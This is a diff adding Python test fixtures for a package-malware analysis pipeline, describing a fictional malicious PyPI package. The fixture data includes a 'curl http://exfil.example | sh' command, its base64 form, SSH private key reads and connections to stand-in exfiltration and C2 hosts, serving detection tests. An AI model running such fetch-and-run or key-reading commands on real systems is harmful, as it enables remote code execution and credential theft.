@@ -1,0 +1,63 @@
+"""Hand-written documents in the exact shapes the pipeline stores (OSSF dynamic and static, pkgtrace report)."""
+
+import base64
+
+
+def dynamic_doc(name="evil-pkg", version="1.0.0", ecosystem="pypi"):
+    return {
+        "Package": {"Ecosystem": ecosystem, "Name": name, "Version": version},
+        "CreatedTimestamp": 1764000000,
+        "Analysis": {
+            "install": {
+                "Status": "completed",
+                "Stdout": base64.b64encode(b"installed\n").decode(),
+                "Stderr": "",
+                "Files": [{"Path": "/root/.ssh/id_rsa", "Read": True, "Write": False, "Delete": False},
+                          {"Path": "/tmp/payload.sh", "Read": False, "Write": True, "Delete": True}],
+                "Sockets": [{"Address": "203.0.113.7", "Port": 443, "Hostnames": ["exfil.example", "cdn.example"]}],
+                "Commands": [{"Command": ["sh", "-c", "curl http://exfil.example | sh"], "Environment": ["HOME=/root"]}],
+                "DNS": [{"Class": "IN", "Queries": [{"Hostname": "exfil.example", "Types": ["A", "AAAA"]}]}],
+            },
+            "import": {"Status": "completed", "Stdout": "", "Stderr": "", "Files": [], "Sockets": [],
+                       "Commands": [], "DNS": []},
+            "execute": {"Status": "error_timeout", "Stdout": "", "Stderr": "", "Files": [], "Sockets": [],
+                        "Commands": [{"Command": ["python3", "-c", "import evil"], "Environment": []}],
+                        "DNS": [{"Class": "IN", "Queries": [{"Hostname": "c2.example", "Types": ["TXT"]}]}]},
+        },
+    }
+
+
+def static_doc(name="evil-pkg", version="1.0.0", ecosystem="pypi"):
+    return {
+        "schema_version": "1.0", "ecosystem": ecosystem, "name": name, "version": version,
+        "created": "2025-11-24T12:00:00Z",
+        "results": {"files": [
+            {"filename": "setup.py", "detected_type": "text/x-python", "size": 812, "sha256": "ab" * 32,
+             "line_lengths": [{"value": 80, "count": 3}],
+             "urls": ["http://exfil.example/x"], "ip_addresses": ["203.0.113.7"],
+             "base64_strings": ["Y3VybCBodHRwOi8vZXhmaWwuZXhhbXBsZQ=="], "hex_strings": [],
+             "escaped_strings": [{"value": "A", "raw": "\\x41", "levenshtein_dist": 3}],
+             "suspicious_identifiers": [{"name": "_0xabc", "rule": "hex"}],
+             "pkgtrace_extra": {"not": "in OSSF's schema"}},
+            {"filename": "README.md", "detected_type": "text/markdown", "size": 10, "sha256": "cd" * 32},
+        ]},
+    }
+
+
+def report_doc(name="evil-pkg", version="1.0.0", ecosystem="pypi", label="malicious"):
+    return {
+        "schema_version": "pkgtrace-report/1",
+        "package": {"ecosystem": ecosystem, "name": name, "version": version},
+        "artifact": {"filename": f"{name}-{version}.tar.gz", "sha256": "ef" * 32, "url": "https://files.example/x",
+                     "local": False},
+        "created": 1764000000, "timings": {"static_s": 1.5, "dynamic_s": 41.0},
+        "verdict": {"score": 0.97, "label": label, "findings": [
+            {"rule": "dynamic.bait_read", "severity": "critical", "message": "read the planted SSH key",
+             "evidence": {"path": "/root/.ssh/id_rsa", "phase": "install"}},
+            {"rule": "static.curl_pipe_sh", "severity": "high", "message": "downloads and runs a script",
+             "evidence": {"file": "setup.py", "line": 12}}]},
+    }
+
+
+def all_docs(**kw):
+    return {"dynamic": dynamic_doc(**kw), "static": static_doc(**kw), "report": report_doc(**kw)}
